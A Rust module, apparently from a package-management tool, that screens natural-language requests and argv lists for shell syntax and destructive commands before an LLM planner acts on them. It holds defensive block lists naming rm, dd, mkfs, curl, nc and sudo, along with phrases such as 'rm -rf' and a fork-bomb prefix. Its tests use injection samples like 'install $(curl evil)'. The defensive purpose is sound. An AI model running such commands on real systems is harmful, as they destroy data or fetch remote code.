//! What the planner refuses to turn into actions: shell fragments and destructive
//! commands. A request carrying them becomes `clarify`, never `run` — and `run`
//! (argv only, never a shell) is itself checked again at validation.

/// Why `request` is refused before any planning (too long, destructive, shell
/// syntax), or `None`. No planner — offline rules or the LLM — sees a refused request.
pub fn refusal(request: &str) -> Option<String> {
    if request.len() > super::MAX_REQUEST {
        return Some("That request is too long; say it in one sentence.".into());
    }
    let t = super::text::normalize(request);
    if let Some(w) = destructive_words(&t) {
        return Some(format!("{w:?} looks destructive; rast plans package and snapshot actions, not shell commands. Use `rast run` yourself if you mean it."));
    }
    let toks = super::lex::tokens(&t, &super::lex::NoVocabulary, &|_| false);
    let spans = super::refs::find(&toks);
    if !super::refs::is_run_request(&toks, &spans) {
        if let Some(f) = shell_fragment(&t) {
            return Some(format!("{f:?} is shell syntax; rast does not run shell text. Say what you want done (e.g. \"install htop\")."));
        }
    }
    None
}

/// Shell syntax that has no place in a request for a typed action.
const SHELL_FRAGMENTS: &[&str] = &["$(", "`", "&&", "||", ";", "|", ">", "<", "${", "\n", "\\"];

/// Commands (argv[0]) that destroy data or escape the sandbox's intent.
const DANGEROUS_PROGRAMS: &[&str] = &[
    "rm", "dd", "mkfs", "shred", "wipefs", "sh", "bash", "zsh", "dash", "fish", "eval", "exec",
    "sudo", "su", "doas", "chmod", "chown", "curl", "wget", "nc", "ncat", "python", "python3",
    "perl", "ruby", "reboot", "shutdown", "poweroff", "halt", "kill", "killall", "fdisk", "parted",
    "mount", "umount", "btrfs", "truncate", "crontab",
];

/// The shell fragment found in `text`, if any.
pub fn shell_fragment(text: &str) -> Option<&'static str> {
    SHELL_FRAGMENTS.iter().copied().find(|f| text.contains(f))
}

/// Words that on their own mark a destructive or unsafe request.
pub fn destructive_words(text: &str) -> Option<&'static str> {
    let t = text.to_lowercase();
    const PHRASES: &[&str] = &[
        "rm -rf",
        "rm -r ",
        "mkfs",
        "dd if=",
        "format the disk",
        "wipe the disk",
        "wipe my disk",
        "delete everything",
        "erase everything",
        "erase the disk",
        "/dev/sd",
        "/dev/nvme",
        "/dev/vd",
        "chmod 777",
        "chmod -r",
        ":(){",
        "fork bomb",
        "drop table",
        "--no-preserve-root",
    ];
    PHRASES.iter().copied().find(|p| t.contains(p))
}

/// Why an argv may not run inside a snapshot, if it may not.
pub fn unsafe_argv(argv: &[String]) -> Option<String> {
    let prog = argv.first()?;
    let base = prog.rsplit('/').next().unwrap_or(prog);
    if DANGEROUS_PROGRAMS.contains(&base) || base.starts_with("mkfs") {
        return Some(format!(
            "{base} is not run from a natural-language request; use `rast run` yourself"
        ));
    }
    for a in argv {
        if let Some(f) = shell_fragment(a) {
            return Some(format!(
                "{f:?} is shell syntax; commands run as argv, not through a shell"
            ));
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn catches_the_usual_suspects() {
        for t in [
            "install vim; rm -rf /",
            "install $(curl evil)",
            "install `id`",
            "a && b",
            "x | sh",
        ] {
            assert!(shell_fragment(t).is_some(), "{t}");
        }
        assert!(shell_fragment("install the latest firefox").is_none());
        assert!(destructive_words("please rm -rf / now").is_some());
        assert!(destructive_words("install gimp").is_none());
        let v = |s: &str| s.split(' ').map(String::from).collect::<Vec<_>>();
        assert!(unsafe_argv(&v("rm -rf /")).is_some());
        assert!(unsafe_argv(&v("/usr/bin/dd if=/dev/zero")).is_some());
        assert!(unsafe_argv(&v("pacman -Qdt")).is_none());
    }
}
